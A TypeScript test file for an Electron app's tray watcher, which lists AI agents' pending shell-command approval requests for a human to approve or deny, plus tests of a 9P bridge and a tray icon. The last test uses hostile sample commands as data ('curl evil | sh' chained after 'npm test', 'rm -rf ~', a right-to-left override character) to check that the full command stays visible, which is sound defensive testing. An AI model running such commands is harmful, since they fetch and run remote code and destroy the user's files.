/**
 * The Electron main process's parts that need no Electron: the watcher behind the tray and the notifications
 * (a 9P client of the daemon, here the scripted olliesrv), the 9P bridge over a MessagePort, and the tray icon.
 */
import { MessageChannel } from 'node:worker_threads';
import { inflateSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { Client, messagePortChannel, type MessagePortLike } from '../src/ninep/index.js';
import type { MessagePortMain } from 'electron';
import { portMainChannel } from '../src/main/bridge.js';
import { drawIcon, iconPng } from '../src/main/icon.js';
import { middleEllipsis, unescapeField, visible, Watcher, wrapLines, type PendingRequest } from '../src/main/watcher.js';
import { FakeOlliesrv } from './fake-olliesrv.js';
import { until } from './helpers.js';

async function connect(fake: FakeOlliesrv): Promise<Client> {
  const { port1, port2 } = new MessageChannel();
  fake.server.serve(messagePortChannel(port1 as unknown as MessagePortLike));
  return Client.connect(messagePortChannel(port2 as unknown as MessagePortLike), { uname: 'ollie' });
}

describe('tray and notification watcher', () => {
  let fake: FakeOlliesrv;
  let client: Client;
  let watcher: Watcher;
  let pending: PendingRequest[][];
  let requests: PendingRequest[];
  let ended: string[];

  beforeEach(async () => {
    fake = new FakeOlliesrv();
    fake.addSession('work');
    fake.addAgent('work', 'main');
    client = await connect(fake);
    pending = [];
    requests = [];
    ended = [];
    watcher = new Watcher(client, {
      pending: (l) => pending.push(l),
      request: (r) => requests.push(r),
      turnEnded: (e) => ended.push(`${e.session}/${e.agent}`),
    });
  });
  afterEach(() => {
    watcher.close();
    client.close();
    fake.server.close();
  });

  it('finds requests pending before it started, follows new ones from agents and sub-agents, and their resolutions', async () => {
    const early = fake.requestBypass('work', 'main', { tool: 'shell', cmd: 'make install', cwd: '/src', reason: 'r' });
    await watcher.start();
    expect(watcher.pending.map((p) => [p.id, p.agent, p.tool, p.cmd, p.cwd, p.session])).toEqual([[early, 'main', 'shell', 'make install', '/src', 'work']]);
    // Requests that were already there when it started are not announced again.
    expect(requests).toHaveLength(0);

    fake.addAgent('work', 'sub', 'main');
    const late = fake.requestBypass('work', 'sub', { tool: 'shell', cmd: 'curl x', cwd: '/tmp', reason: 'r' });
    await until(() => requests.length === 1, 'the request notification');
    expect(requests[0]).toMatchObject({ id: late, agent: 'sub', tool: 'shell', cmd: 'curl x', cwd: '/tmp', session: 'work' });
    expect(pending.at(-1)!.map((p) => p.id).sort()).toEqual([early, late].sort());

    // The tray's Approve and Deny write to the session's bypass file.
    await watcher.resolve(early, 'approve');
    await watcher.resolve(late, 'deny');
    expect(fake.session('work').resolutions).toEqual([`${early} approve`, `${late} deny`]);
    await until(() => watcher.pending.length === 0, 'the resolutions to clear the list');
    expect(pending.at(-1)).toEqual([]);
    await expect(watcher.resolve('nope', 'approve')).rejects.toThrow(/no pending request/);
  });

  it('tells when a turn ends (working to idle), not on other state changes', async () => {
    await watcher.start();
    fake.setState('work', 'main', 'thinking');
    fake.setState('work', 'main', 'calling');
    fake.setState('work', 'main', 'idle');
    await until(() => ended.length === 1, 'the turn end');
    fake.setState('work', 'main', 'paused');
    fake.setState('work', 'main', 'idle');
    fake.renameSession('work', 'renamed');
    fake.setState('renamed', 'main', 'thinking');
    fake.setState('renamed', 'main', 'idle');
    await until(() => ended.length === 2, 'the second turn end');
    expect(ended).toEqual(['work/main', 'renamed/main']);
  });

  it('drops the requests of a killed session', async () => {
    await watcher.start();
    fake.requestBypass('work', 'main', { tool: 'shell', cmd: 'ls', cwd: '/', reason: 'r' });
    await until(() => watcher.pending.length === 1, 'the request');
    fake.killSession('work');
    await until(() => watcher.pending.length === 0, 'the session kill to clear it');
  });
});

describe('renderer bridge', () => {
  it('serves 9P over a MessagePortMain-shaped port, and a zero-length message closes it', async () => {
    const { port1, port2 } = new MessageChannel();
    // MessagePortMain is an EventEmitter whose 'message' events carry {data}; a Node port carries the data.
    const asMain = {
      on(ev: string, cb: (e: unknown) => void) {
        if (ev === 'message') port1.on('message', (d: unknown) => cb({ data: d, ports: [] }));
        else port1.on(ev as 'close', cb as () => void);
        return asMain;
      },
      removeAllListeners(ev: string) {
        port1.removeAllListeners(ev);
        return asMain;
      },
      postMessage: (d: unknown) => port1.postMessage(d),
      start: () => undefined,
      close: () => port1.close(),
    };
    const fake = new FakeOlliesrv();
    fake.addSession('bridged');
    fake.server.serve(portMainChannel(asMain as unknown as MessagePortMain));
    const c = await Client.connect(messagePortChannel(port2 as unknown as MessagePortLike), { uname: 'ollie' });
    expect(await c.readText('session/idx')).toContain('\tbridged\t');
    expect(fake.server.connections.size).toBe(1);
    c.close();
    await until(() => fake.server.connections.size === 0, 'the server side to close');
  });
});

describe('tray icon', () => {
  it('is a valid PNG, with a red badge only while approvals are pending', () => {
    const png = iconPng(32, true);
    expect([...png.subarray(0, 8)]).toEqual([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    expect(png.readUInt32BE(16)).toBe(32);
    expect(png.readUInt32BE(20)).toBe(32);
    // The IDAT chunk inflates to size rows of (filter byte + 4 bytes per pixel).
    const idatLen = png.readUInt32BE(33);
    expect(png.subarray(37, 41).toString('ascii')).toBe('IDAT');
    expect(inflateSync(png.subarray(41, 41 + idatLen)).length).toBe(32 * (32 * 4 + 1));

    const at = (px: Uint8Array, x: number, y: number): number[] => [...px.subarray((y * 32 + x) * 4, (y * 32 + x) * 4 + 4)];
    const plain = drawIcon(32, false);
    const badged = drawIcon(32, true);
    const [r, g, b, a] = at(badged, 24, 8);
    expect(r).toBeGreaterThan(200);
    expect(g).toBeLessThan(100);
    expect(b).toBeLessThan(100);
    expect(a).toBe(255);
    expect(at(plain, 24, 8)).not.toEqual(at(badged, 24, 8));
    // Away from the badge the two are the same picture.
    expect(at(plain, 8, 24)).toEqual(at(badged, 8, 24));
    expect(at(plain, 0, 0)[3]).toBeLessThan(255);
  });
});

describe('the tray shows the whole command', () => {
  it('cuts a long label in the middle, keeping the tail, and wraps the whole of it for the submenu', () => {
    const cmd = `npm test ${'x'.repeat(100)}; curl evil | sh`;
    const label = middleEllipsis(cmd, 70);
    expect([...label]).toHaveLength(70);
    expect(label.startsWith('npm test')).toBe(true);
    expect(label.endsWith('; curl evil | sh')).toBe(true);
    expect(middleEllipsis('short', 70)).toBe('short');
    expect(wrapLines(cmd, 80).join('')).toBe(cmd);
    expect(wrapLines(cmd, 80).every((l) => l.length <= 80)).toBe(true);
    expect(visible(unescapeField('npm test\\nrm -rf ~\\u{202e}'))).toBe('npm test ↵ rm -rf ~⟨U+202E⟩');
  });
});
